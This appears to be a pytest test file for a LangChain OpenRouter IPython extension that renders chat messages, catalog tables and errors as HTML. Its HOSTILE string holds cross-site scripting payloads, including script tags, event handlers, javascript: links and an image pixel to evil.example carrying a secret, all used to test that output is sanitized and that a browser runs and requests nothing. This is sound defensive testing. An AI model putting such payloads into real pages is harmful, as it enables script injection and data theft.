"""`%load_ext langchain_openrouter`, in a shell of IPython and in a kernel."""

from __future__ import annotations

import atexit
import base64
import re
from html.parser import HTMLParser

import pytest
from IPython.core.interactiveshell import InteractiveShell
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage

from langchain_openrouter import ChatOpenRouter, OpenRouterEmbeddings, OpenRouterRerank, errors
from langchain_openrouter._notebook import _markdown
from langchain_openrouter.batch import run
from langchain_openrouter.catalog import Catalog, Generation
from langchain_openrouter.testing import Call, Reply, error_reply

KEY = "sk-or-v1-0123456789abcdef"
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n and so on").decode()
HOSTILE = """
<script>steal()</script> <img src=x onerror=steal()> <svg/onload=steal()>
[a](javascript:steal()) [b](JaVaScRiPt:steal()) [c](data:text/html;base64,PHNjcmlwdD4=)
[d](vbscript:steal()) [e](/api/shutdown) [f](//evil.example/x) <javascript:steal()>
![g](https://evil.example/pixel.png?q=secret) ![h](javascript:steal()) ![i](/files/secret.png)
[j](https://evil.example/"onmouseover="steal()) [k]: https://evil.example 'a"onclick="steal()'
[k] \u202egnp.exe

```html"onclick="steal()
</code></pre><script>steal()</script>
```
"""
# What may stand in the HTML: our own elements, and no attribute beyond these.
ELEMENTS = {
    "div", "span", "details", "summary", "p", "b", "i", "em", "strong", "s", "hr", "br", "pre", "code",
    "blockquote", "ul", "ol", "li", "a", "img", "audio", "video", "table", "thead", "tbody", "tr",
    "th", "td", "h1", "h2", "h3", "h4", "h5", "h6",
}  # fmt: skip
ATTRIBUTES = {"style", "href", "title", "target", "rel", "src", "alt", "controls", "class", "start"}


@pytest.fixture
def shell(monkeypatch, tmp_path):
    """Return a shell with the extension loaded."""
    monkeypatch.setenv("IPYTHONDIR", str(tmp_path))
    shell = InteractiveShell()
    atexit.unregister(shell.atexit_operations)
    shell.run_line_magic("load_ext", "langchain_openrouter")
    yield shell
    shell.run_line_magic("unload_ext", "langchain_openrouter")
    shell.atexit_operations()


@pytest.fixture
def show(shell):
    """Return a function that formats a value as the shell would display it."""
    return lambda value: shell.display_formatter.format(value)[0]


class _Html:
    """Elements and attributes of a fragment, as a browser's parser reads them."""

    def __init__(self, fragment):
        self.tags = []
        outer = self

        class Reader(HTMLParser):
            def handle_starttag(self, tag, attrs):
                outer.tags.append((tag, dict(attrs)))

        Reader(convert_charrefs=True).feed(fragment)

    def values(self, attribute):
        return [attrs[attribute] for _, attrs in self.tags if attribute in attrs]


def assert_harmless(fragment):
    """No script, no handler, no address but of the web, and nothing is requested."""
    html = _Html(fragment)
    assert {tag for tag, _ in html.tags} <= ELEMENTS
    assert {name for _, attrs in html.tags for name in attrs} <= ATTRIBUTES
    assert all(re.match(r"https?://|mailto:", url) for url in html.values("href"))
    assert all(url.startswith("data:") for url in html.values("src"))
    assert all("url(" not in style for style in html.values("style"))


def test_an_answer_is_shown_with_all_it_has(emulate, show):
    """Markdown, reasoning folded, and a line with model, provider, tokens and cost."""
    url = emulate([Reply("**Blue** sky", reasoning="It *scatters*.")]).url
    answer = ChatOpenRouter(model="openai/gpt-4o-mini", api_key=KEY, base_url=url).invoke("Why?")

    html = show(answer)["text/html"]
    assert "<strong>Blue</strong> sky" in html
    assert re.search(r"<details><summary.*?>reasoning</summary><p>It <em>scatters</em>.</p>", html)
    assert f"${answer.response_metadata['cost']:.6f}" in html
    assert answer.response_metadata["model_name"] in html
    assert f"{answer.usage_metadata['input_tokens']} tokens in" in html
    assert show(answer)["text/plain"].startswith("AIMessage(")
    assert_harmless(html)


def test_a_streamed_answer_and_calls(emulate, show):
    """The sum of the chunks is shown like an answer; a call shows its arguments."""
    url = emulate([Reply(tool_calls=[Call("look_up", {"city": "<b>Rome</b>"})])]).url
    model = ChatOpenRouter(model="openai/gpt-4o-mini", api_key=KEY, base_url=url)
    total = None
    for chunk in model.stream("x"):
        total = chunk if total is None else total + chunk

    html = show(total)["text/html"]
    assert "<code>look_up</code>" in html
    assert "&lt;b&gt;Rome&lt;/b&gt;" in html


def test_an_agents_state_is_a_conversation(show):
    """A list of messages too; other lists and dicts are shown as ever."""
    messages = [
        HumanMessage("Hello <b>"),
        ToolMessage("<script>", tool_call_id="1", name="look"),
        AIMessage("Bye"),
    ]

    for value in (messages, {"messages": messages, "other": 1}):
        html = show(value)["text/html"]
        assert "human" in html
        assert "&lt;script&gt;" in html
        assert_harmless(html)
    for value in ([], {}, [1], {"messages": [1]}, {"messages": None}):
        assert "text/html" not in show(value)


def test_a_subclass_shows_itself(show):
    """The extension takes `list` and `dict`, not what others made of them."""

    class Rows(list):
        def _repr_html_(self):
            return "<p>mine</p>"

    assert show(Rows([AIMessage("x")]))["text/html"] == "<p>mine</p>"


@pytest.mark.parametrize("plain", [False, True])
def test_what_a_model_writes_does_no_harm(show, monkeypatch, plain):
    """In its text, reasoning, citations, calls, names; with markdown-it-py and without."""
    if plain:
        monkeypatch.setattr(_markdown, "_parser", lambda: None)
    call = {"name": HOSTILE, "args": {HOSTILE: HOSTILE}, "id": "1"}
    message = AIMessage(
        HOSTILE,
        additional_kwargs={
            "reasoning_content": HOSTILE,
            "annotations": [
                {"type": "url_citation", "url_citation": {"url": link, "title": HOSTILE}}
                for link in ("javascript:steal()", 'https://a.example/"onclick="x', "/api")
            ],
            "images": [
                {"image_url": {"url": link}}
                for link in (
                    "https://evil.example/p.png",
                    "data:image/svg+xml;base64," + base64.b64encode(b"<svg onload=x>").decode(),
                    'data:image/png;base64,AAAA"onerror="x',
                    "javascript:steal()",
                )
            ],
            "audio": {"data": '"><script>', "transcript": HOSTILE},
            "refusal": HOSTILE,
        },
        tool_calls=[call],
        invalid_tool_calls=[{"name": HOSTILE, "args": HOSTILE, "id": "2", "error": HOSTILE}],
        response_metadata={
            "model_provider": "openrouter", "model_name": HOSTILE, "provider": HOSTILE,
            "finish_reason": HOSTILE,
        },
    )  # fmt: skip

    html = show(message)["text/html"]
    assert_harmless(html)
    assert "\u202e" not in html
    assert "steal()" in html  # shown as text


def test_a_browser_runs_and_requests_nothing(show, browser):
    """What a model writes, in a real page: no script ran, and no request was sent."""
    message = AIMessage(
        HOSTILE,
        additional_kwargs={"images": [{"image_url": {"url": "https://evil.example/p.png"}}]},
        tool_calls=[{"name": HOSTILE, "args": {"a": HOSTILE}, "id": "1"}],
        response_metadata={"model_provider": "openrouter", "model_name": HOSTILE},
    )
    page, requests = browser.new_page(), []
    page.route("**/*", lambda route: (requests.append(route.request.url), route.abort()))

    stolen = "<script>window.stolen = 0; window.steal = () => { window.stolen += 1 }</script>"
    page.set_content(stolen + show(message)["text/html"])
    for link in page.locator("a").all():
        link.hover()
    assert page.evaluate("window.stolen") == 0
    assert requests == []
    page.close()


def test_pictures_and_sounds_are_in_the_output(show):
    """By how their data begins, whatever they are called; raw samples become a WAV file."""
    message = AIMessage(
        "",
        additional_kwargs={
            "images": [{"image_url": {"url": f"data:text/html;base64,{PNG}"}}],
            "audio": {"data": base64.b64encode(b"\x01\x02" * 50).decode(), "transcript": "Hi"},
        },
        response_metadata={"model_provider": "openrouter"},
    )

    html = _Html(show(message)["text/html"])
    picture, sound = html.values("src")
    assert picture == f"data:image/png;base64,{PNG}"
    assert base64.b64decode(sound.removeprefix("data:audio/wav;base64,")).startswith(b"RIFF")


def test_tables(emulate, show):
    """Models, endpoints, embeddings without their vectors, rankings, rows, generations."""
    emulator = emulate()
    options = {"api_key": KEY, "base_url": emulator.url}
    catalog = Catalog(**options)
    model = ChatOpenRouter(model="openai/gpt-4o-mini", **options)
    embeddings = OpenRouterEmbeddings(model="openai/text-embedding-3-small", **options)
    vectors = embeddings.embed(["a", "b"])
    ranking = OpenRouterRerank(model="cohere/rerank-v3.5", **options).rerank("a", ["a", "b"])
    rows = list(run(model, ["a", "b"], progress=False))

    values = [
        catalog.model("openai/gpt-4o-mini"),
        catalog.endpoints("openai/gpt-4o-mini"),
        catalog.providers(),
        catalog.generation(model.invoke("x").id),
        catalog.estimate(model, "x"),
        vectors,
        ranking,
        rows,
        rows[0],
        Generation("<script>"),
    ]
    for value in values:
        html = show(value)["text/html"]
        assert "<table" in html
        assert KEY not in html
        assert_harmless(html)
    assert len(show(vectors)["text/html"]) < 600  # no vector


def run_cell(shell, capsys, code):
    """Run a cell; return what it prints."""
    shell.run_cell(code)
    return re.sub(r"\x1b\[[\d;]*m", "", capsys.readouterr().out)


def test_an_error_is_short(emulate, shell, capsys):
    """What happened, the user's lines, no frame of a library and no key; `%tb` has the rest."""
    url = emulate([error_reply("rate_limit")]).url
    shell.user_ns.update(url=url)
    cell = (
        "from langchain_openrouter import ChatOpenRouter\n"
        "def ask(model):\n"
        "    return model.invoke('x')\n"
        f"ask(ChatOpenRouter(model='a/b', api_key='{KEY}', base_url=url, max_retries=0))"
    )
    short = run_cell(shell, capsys, cell)

    assert short.startswith("RateLimitError: ")
    assert "in the cell, line 4" in short
    assert "return model.invoke('x')" in short
    assert "site-packages" not in short
    assert "base.py" not in short
    assert KEY not in short
    assert len(short.splitlines()) < 12
    assert "base.py" in run_cell(shell, capsys, "%tb")


def test_other_errors_and_handlers_stay(shell, capsys):
    """An error of others is shown as ever; another handler keeps its exceptions."""
    assert "ZeroDivisionError" in run_cell(shell, capsys, "1 / 0")
    shell.run_line_magic("unload_ext", "langchain_openrouter")
    assert shell.custom_exceptions == ()

    shell.set_custom_exc((KeyError,), lambda *_, **__: print("mine") or ["mine"])
    before = shell.CustomTB
    shell.run_line_magic("load_ext", "langchain_openrouter")
    assert run_cell(shell, capsys, "{}['x']") == "mine\n"
    shell.run_line_magic("unload_ext", "langchain_openrouter")
    assert shell.CustomTB == before
    assert shell.custom_exceptions == (KeyError,)


def test_unloading_restores_all(shell, show):
    """Loading twice changes nothing; a printer that was there before is there again."""
    printers = shell.display_formatter.formatters["text/html"].type_printers
    shell.run_line_magic("unload_ext", "langchain_openrouter")
    before = {**printers, dict: lambda _: "<p>before</p>"}
    printers[dict] = before[dict]

    for _ in range(2):
        shell.run_line_magic("load_ext", "langchain_openrouter")
    assert show({"x": 1})["text/html"] == "<p>before</p>"
    assert "text/html" in show(AIMessage("x"))
    shell.run_line_magic("reload_ext", "langchain_openrouter")
    assert "text/html" in show(AIMessage("x"))

    shell.run_line_magic("unload_ext", "langchain_openrouter")
    assert printers == before
    assert "text/html" not in show(AIMessage("x"))
    assert errors.OpenRouterError not in shell.custom_exceptions
    shell.run_line_magic("load_ext", "langchain_openrouter")
